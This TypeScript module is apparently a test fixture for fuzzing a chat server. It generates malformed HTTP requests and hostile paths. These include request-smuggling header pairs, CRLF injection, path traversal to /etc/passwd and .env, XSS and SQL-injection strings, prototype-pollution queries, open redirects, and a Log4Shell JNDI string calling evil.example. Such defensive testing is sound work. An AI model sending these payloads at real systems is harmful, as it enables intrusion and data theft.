import type { Endpoint } from './endpoint.ts'

/** Bytes for a socket, and what they try. */
export type RawRequest = readonly [what: string, bytes: string | Buffer]

const CRLF = '\r\n'

/** One request as bytes; the connection closes after it. Headers that have no value are left out. */
export function request(
  method: string,
  path: string,
  headers: Readonly<Record<string, string | number>>,
  body: string | Buffer = '',
): Buffer {
  const bytes = Buffer.from(body)
  const all = { host: 'line.example', connection: 'close', 'content-length': bytes.length, ...headers }
  const lines = Object.entries(all).flatMap(([name, value]) => (value === '' ? [] : [`${name}: ${value}`]))
  return Buffer.concat([Buffer.from([`${method} ${path} HTTP/1.1`, ...lines, '', ''].join(CRLF), 'latin1'), bytes])
}

/** Requests that break HTTP itself, at a place that takes bodies. */
export function brokenRequests({ path, headers, carrying }: Endpoint): readonly RawRequest[] {
  const body = carrying('menu')[0] ?? ''
  const good = headers(body)
  const size = Buffer.byteLength(body)
  const post = (more: Record<string, string | number>, given: string | Buffer = body) =>
    request(
      'POST',
      path,
      { ...(given === body || 'transfer-encoding' in more ? good : headers(given)), ...more },
      given,
    )
  const lines = Object.entries(good).map(([name, value]) => `${name}: ${value}`)
  const raw = (...all: string[]) => [...all, ''].join(CRLF)
  const chunked = { 'transfer-encoding': 'chunked', 'content-length': '' }
  const chunk = (text: string) => `${Buffer.byteLength(text).toString(16)}${CRLF}${text}${CRLF}`
  return [
    ['a body shorter than it says', post({ 'content-length': size + 100 })],
    ['a body longer than it says', post({ 'content-length': 3 })],
    ['a length below zero', post({ 'content-length': -1 })],
    ['a length with a sign', post({ 'content-length': `+${size}` })],
    ['a length in hexadecimal', post({ 'content-length': `0x${size.toString(16)}` })],
    ['a length of words', post({ 'content-length': 'many' })],
    ['a length beyond all bounds', post({ 'content-length': '99999999999999999999' })],
    ['a length of a gigabyte', post({ 'content-length': 1_073_741_824 })],
    ['two lengths', post({ 'content-length': `${size}, ${size + 1}` })],
    [
      'two lengths in two lines',
      raw(`POST ${path} HTTP/1.1`, 'host: x', ...lines, `content-length: ${size}`, 'content-length: 3', '', body),
    ],
    ['a length and chunks', post({ 'transfer-encoding': 'chunked' }, `${chunk(body)}0${CRLF}${CRLF}`)],
    ['chunks', post(chunked, `${chunk(body)}0${CRLF}${CRLF}`)],
    ['a chunk for each byte', post(chunked, `${[...body].map(chunk).join('')}0${CRLF}${CRLF}`)],
    ['chunks with trailers', post(chunked, `${chunk(body)}0${CRLF}authorization: x${CRLF}${CRLF}`)],
    ['chunks without an end', post(chunked, chunk(body))],
    ['a chunk with a name', post(chunked, `5;name=${'x'.repeat(500)}${CRLF}hello${CRLF}0${CRLF}${CRLF}`)],
    ['a chunk of no size', post(chunked, `x${CRLF}hello${CRLF}0${CRLF}${CRLF}`)],
    ['a chunk below zero', post(chunked, `-5${CRLF}hello${CRLF}0${CRLF}${CRLF}`)],
    ['a chunk beyond all bounds', post(chunked, `ffffffffffffffff${CRLF}hello${CRLF}`)],
    ['a chunk that lies', post(chunked, `2${CRLF}hello${CRLF}0${CRLF}${CRLF}`)],
    ['an encoding nobody knows', post({ 'transfer-encoding': 'x', 'content-length': '' })],
    ['chunked, twice', post({ 'transfer-encoding': 'chunked, chunked', 'content-length': '' }, chunk(body))],
    ['chunked, hidden', post({ 'transfer-encoding': '\u000bchunked' })],
    ['a packed body', post({ 'content-encoding': 'gzip' }, Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]))],
    ['a body that says it is packed', post({ 'content-encoding': 'deflate' })],
    ['a body in UTF-16', post({ 'content-type': 'application/json; charset=utf-16' }, Buffer.from(body, 'utf16le'))],
    ['a body that is no UTF-8', post({}, Buffer.from([0x22, 0xff, 0xfe, 0x22]))],
    ['a body that ends inside a letter', post({}, Buffer.from('{"id":"ខ្ញុំ').subarray(0, 9))],
    ['a body that must be asked for', post({ expect: '100-continue' })],
    ['an expectation nobody has', post({ expect: 'a miracle' })],
    ['another method in a header', post({ 'x-http-method-override': 'DELETE' })],
    ['another path in a header', post({ 'x-original-url': '/metrics', 'x-rewrite-url': '/metrics' })],
    ['another host', post({ host: 'evil.example' })],
    ['a host with markup', post({ host: '<script>window.stung=1</script>' })],
    ['no host', post({ host: '' })],
    ['two hosts', raw(`POST ${path} HTTP/1.1`, 'host: a', 'host: b', ...lines, `content-length: ${size}`, '', body)],
    ['a host beyond all bounds', post({ host: 'x'.repeat(10_000) })],
    ['a caller that is none', post({ 'x-forwarded-for': "'; DROP TABLE people; --" })],
    ['a thousand callers', post({ 'x-forwarded-for': '10.0.0.1, '.repeat(1_000) })],
    ['a caller that is an IPv6 address with a zone', post({ 'x-forwarded-for': 'fe80::1%eth0' })],
    ['a caller that is half an IPv6 address', post({ 'x-forwarded-for': '2001:db8:::::' })],
    ['a protocol that is none', post({ 'x-forwarded-proto': 'javascript', 'x-forwarded-host': 'evil.example' })],
    ['cookies of 8 kB', post({ cookie: 'a=b; '.repeat(1_600) })],
    ['a header of 20 kB', post({ 'x-long': 'x'.repeat(20_000) })],
    ['two hundred headers', post(Object.fromEntries(Array.from({ length: 200 }, (_, n) => [`x-${n}`, n])))],
    ['five thousand headers', post(Object.fromEntries(Array.from({ length: 5_000 }, (_, n) => [`x-${n}`, n])))],
    ['a header of the prototype', post({ __proto__x: '1', constructor: '1', 'to-string': '1' })],
    [
      'the header __proto__',
      raw(`POST ${path} HTTP/1.1`, 'host: x', '__proto__: x', ...lines, `content-length: ${size}`, '', body),
    ],
    ['a header with NUL', post({ 'x-nul': 'a\u0000b' })],
    ['a header with a line break', post({ 'x-break': 'a\r\nset-cookie: stung=1' })],
    ['a header with a bare line feed', post({ 'x-break': 'a\nset-cookie: stung=1' })],
    [
      'a header that goes on in the next line',
      raw(`POST ${path} HTTP/1.1`, 'host: x', 'x-fold: a', ' b', ...lines, '', ''),
    ],
    ['a header with a blank before its colon', raw(`POST ${path} HTTP/1.1`, 'host : x', ...lines, '', '')],
    ['a header without a name', raw(`POST ${path} HTTP/1.1`, 'host: x', ': x', '', '')],
    ['a header without a colon', raw(`POST ${path} HTTP/1.1`, 'host: x', 'nonsense', '', '')],
    [
      'letters that no header may have',
      Buffer.from(raw(`POST ${path} HTTP/1.1`, 'host: x', 'x-khmer: ខ្ញុំ', '', ''), 'utf8'),
    ],
    [
      'every header twice',
      raw(
        `POST ${path} HTTP/1.1`,
        'host: x',
        ...lines,
        ...lines,
        `content-length: ${size}`,
        'connection: close',
        '',
        body,
      ),
    ],
    [
      'a change of protocol',
      post({ connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-key': 'x', 'sec-websocket-version': 13 }),
    ],
    ['a change to HTTP/2', post({ connection: 'Upgrade, HTTP2-Settings', upgrade: 'h2c', 'http2-settings': 'AAA' })],
    [
      'twenty requests at once',
      Buffer.concat([...Array.from({ length: 19 }, () => post({ connection: 'keep-alive' })), post({})]),
    ],
    ['a request inside a body', post({}, `GET /metrics HTTP/1.1${CRLF}host: x${CRLF}${CRLF}`)],
  ]
}

/** What arrives at any port that is open to the world, and speaks no HTTP or not ours. */
export const STRANGE_BYTES: readonly RawRequest[] = [
  ['nothing', ''],
  ['a line break', CRLF],
  ['a thousand line breaks', CRLF.repeat(1_000)],
  ['NUL', Buffer.alloc(1_000)],
  ['noise', Buffer.from(Array.from({ length: 2_000 }, (_, n) => (n * 7919) % 256))],
  ['a TLS greeting', Buffer.from('16030100c8010000c403035b', 'hex')],
  ['the greeting of HTTP/2', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
  ['SSH', 'SSH-2.0-OpenSSH_9.6\r\n'],
  ['SMTP', 'EHLO evil.example\r\n'],
  ['a proxy line', 'PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\nhost: x\r\n\r\n'],
  ['HTTP/0.9', 'GET /\r\n'],
  ['HTTP/9.9', 'GET / HTTP/9.9\r\nhost: x\r\n\r\n'],
  ['HTTP without a version', 'GET / HTTP\r\n\r\n'],
  ['no path', 'GET HTTP/1.1\r\nhost: x\r\n\r\n'],
  ['a method of 10 kB', `${'X'.repeat(10_000)} / HTTP/1.1\r\nhost: x\r\n\r\n`],
  ['bare line feeds', 'GET / HTTP/1.1\nhost: x\n\n'],
  ['half a request line', 'GET /ind'],
  ['half a header', 'GET / HTTP/1.1\r\nhost: li'],
  ...['TRACE', 'CONNECT', 'OPTIONS', 'DELETE', 'PUT', 'PATCH', 'PROPFIND', 'HEAD', 'get', 'QUERY'].map(
    (method): RawRequest => [
      `the method ${method}`,
      request(method, method === 'CONNECT' ? 'evil.example:443' : '/', {}),
    ],
  ),
  ['the path *', request('OPTIONS', '*', {})],
]

/** Paths that lead out of the house, or into its walls. */
export const PATHS: readonly string[] = [
  '/..',
  '/../../../../etc/passwd',
  '/..%2f..%2f..%2fetc/passwd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..%252f..%252fetc/passwd',
  '/..%c0%af..%c0%afetc/passwd',
  '/..\\..\\windows\\win.ini',
  '/..;/..;/etc/passwd',
  '/assets/../../../package.json',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/assets/x/chat.js%00.html',
  '/fonts/../../../../etc/passwd',
  '/fonts/%2e%2e%2f%2e%2e%2fpackage.json',
  '/.env',
  '/.git/config',
  '/package.json',
  '/data/store.json',
  '/data.key',
  '/src/main.ts',
  '/node_modules/.package-lock.json',
  '/server-status',
  '/actuator/env',
  '/wp-login.php',
  '/cgi-bin/test.cgi',
  '/admin',
  '/graphql?query={__schema{types{name}}}',
  '/__proto__',
  '/constructor',
  '/toString',
  '/api/chat/messages/__proto__',
  '/api/chat/messages/../../metrics',
  '/api/chat/messages;x=1',
  '/api/chat//messages',
  '/API/CHAT/MESSAGES',
  '//evil.example',
  '//evil.example/%2f..',
  '/\\evil.example',
  '/%5cevil.example',
  '/https://evil.example',
  'http://evil.example/',
  'http://user:password@evil.example/',
  '/?redirect=https://evil.example&next=//evil.example',
  '/?start=%3Cscript%3Ewindow.stung=1%3C/script%3E',
  '/?start=javascript:window.stung=1&lang=__proto__',
  '/?lang=%22%3E%3Cscript%3Ewindow.stung=1%3C/script%3E',
  '/%3Cscript%3Ewindow.stung=1%3C/script%3E',
  '/<script>window.stung=1</script>',
  '/?__proto__[polluted]=1&constructor[prototype][polluted]=1',
  '/?a=1&a=2&a[]=3&a[b]=4',
  `/?${'a=1&'.repeat(2_000)}`,
  `/?a=${'x'.repeat(9_000)}`,
  `/${'x'.repeat(9_000)}`,
  `/${'a/'.repeat(4_000)}`,
  `/${'%41'.repeat(3_000)}`,
  '/%',
  '/%E0%A4%A',
  '/%ff%fe',
  '/%00',
  '/%u0041',
  '/%0d%0aset-cookie:%20stung=1',
  '/%E2%80%AEgnp.exe',
  '/%E1%9E%80%E1%9F%92%E1%9E%9A%E1%9E%BB%E1%9E%98',
  '/{{7*7}}',
  '/$' + '{jndi:ldap://evil.example/x}',
  '/*',
  '/:path',
  '/health/../metrics',
  '/favicon.svg/..%2fmetrics',
  '/?after=web:other/1.0',
  '/api/chat/messages?after=__proto__&wait=-1',
]
